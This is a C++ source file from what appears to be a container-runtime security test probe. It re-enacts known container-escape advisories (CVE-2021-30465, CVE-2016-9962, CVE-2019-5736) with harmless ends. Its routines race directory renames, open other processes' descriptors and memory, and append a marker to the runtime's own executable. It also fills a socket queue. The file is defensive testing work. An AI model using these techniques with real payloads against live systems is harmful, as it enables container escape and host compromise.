// What an attacker does beside a container, or in it: the attacks of published advisories,
// with harmless ends.
#include <dirent.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>

#include "probe.h"

namespace probe {
namespace {

double Seconds() {
  const auto now = std::chrono::steady_clock::now().time_since_epoch();
  return std::chrono::duration<double>(now).count();
}

// The processes in sight but this one and its pid namespace's first.
std::vector<pid_t> Others() {
  std::vector<pid_t> pids;
  DIR* proc = opendir("/proc");
  while (const dirent* entry = proc == nullptr ? nullptr : readdir(proc)) {
    const pid_t pid = std::atoi(entry->d_name);
    if (pid > 1 && pid != getpid()) pids.push_back(pid);
  }
  if (proc != nullptr) closedir(proc);
  return pids;
}

std::string InProc(pid_t pid, const char* file) {
  return "/proc/" + std::to_string(pid) + "/" + file;
}

// CVE-2021-30465: exchanges two names in a directory that containers share.
int Swap(const Arguments& arguments) {
  long swaps = 0;
  for (const double end = Seconds() + std::atof(arguments.at(2).c_str()); Seconds() < end; ++swaps) {
    if (renameat2(AT_FDCWD, arguments[0].c_str(), AT_FDCWD, arguments[1].c_str(), RENAME_EXCHANGE) != 0) {
      return Report(-1);
    }
  }
  std::printf("swapped %ld\n", swaps);
  return 0;
}

// CVE-2016-9962: tries to open the descriptors, memory and executable of every process that shows up beside
// it, and names what it got.
int Snoop(const Arguments& arguments) {
  static constexpr std::array kFiles = {"fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8", "mem", "exe"};
  std::set<pid_t> seen;
  std::printf("looking\n");
  for (const double end = Seconds() + std::atof(arguments.at(0).c_str()); Seconds() < end;) {
    for (const pid_t pid : Others()) {
      for (const char* file : kFiles) {
        const int fd = open(InProc(pid, file).c_str(), O_RDONLY | O_CLOEXEC | O_NONBLOCK);
        if (fd < 0) continue;
        std::printf("got %s\n", InProc(pid, file).c_str());
        close(fd);
      }
      if (seen.insert(pid).second) std::printf("looked at %d\n", pid);
    }
  }
  if (seen.empty()) std::printf("nothing came in sight\n");
  return 0;
}

bool IsImages(const struct stat& st) {
  struct stat ours {};
  for (const char* path : {"/bin/probe", "/bin/busybox"}) {
    if (stat(path, &ours) == 0 && ours.st_dev == st.st_dev && ours.st_ino == st.st_ino) return true;
  }
  return false;
}

// Of a process that runs a file which is not the image's: that file, for reading.
int OpenForeign(pid_t pid) {
  const int fd = open(InProc(pid, "exe").c_str(), O_RDONLY | O_CLOEXEC);
  struct stat st {};
  if (fd >= 0 && fstat(fd, &st) == 0 && !IsImages(st)) return fd;
  if (fd >= 0) close(fd);
  return -1;
}

// As long as a file is executed it cannot be written to, so its process is killed first. What is written lies
// behind the end: it still is the runtime.
int WriteTo(int file, pid_t pid) {
  const std::string path = "/proc/self/fd/" + std::to_string(file);
  kill(pid, SIGKILL);
  for (const double end = Seconds() + 5; Seconds() < end;) {
    const int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC);
    if (fd >= 0 && lseek(fd, 0, SEEK_END) > 0 && write(fd, "marker", 6) == 6) {
      std::printf("seized\n");
      return 0;
    }
    if (errno != ETXTBSY) break;
  }
  std::printf("refused %s\n", strerrorname_np(errno));
  return 0;
}

// CVE-2019-5736: waits for a process that runs the runtime's own file, and adds a word to that.
int Seize(const Arguments& arguments) {
  std::printf("looking\n");
  for (const double end = Seconds() + std::atof(arguments.at(0).c_str()); Seconds() < end;) {
    for (const pid_t pid : Others()) {
      if (const int file = OpenForeign(pid); file >= 0) return WriteTo(file, pid);
    }
  }
  std::printf("nothing came in sight\n");
  return 0;
}

// A listening socket whose queue is full: who connects to it waits.
int FullSocket(const Arguments& arguments) {
  const SocketAddress at = AddressOf(arguments.at(0));
  const auto* address = reinterpret_cast<const sockaddr*>(&at.address);
  const int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (bind(listener, address, at.size) != 0 || listen(listener, 0) != 0) return Report(-1);
  while (connect(socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0), address, at.size) == 0) {
  }
  std::printf("full\n");
  pause();
  return 0;
}

}  // namespace

const std::vector<Command> kAttackers = {
    {"swap", "PATH PATH SECONDS", Swap},
    {"snoop", "SECONDS", Snoop},
    {"seize", "SECONDS", Seize},
    {"full-socket", "SOCKET", FullSocket},
};

}  // namespace probe
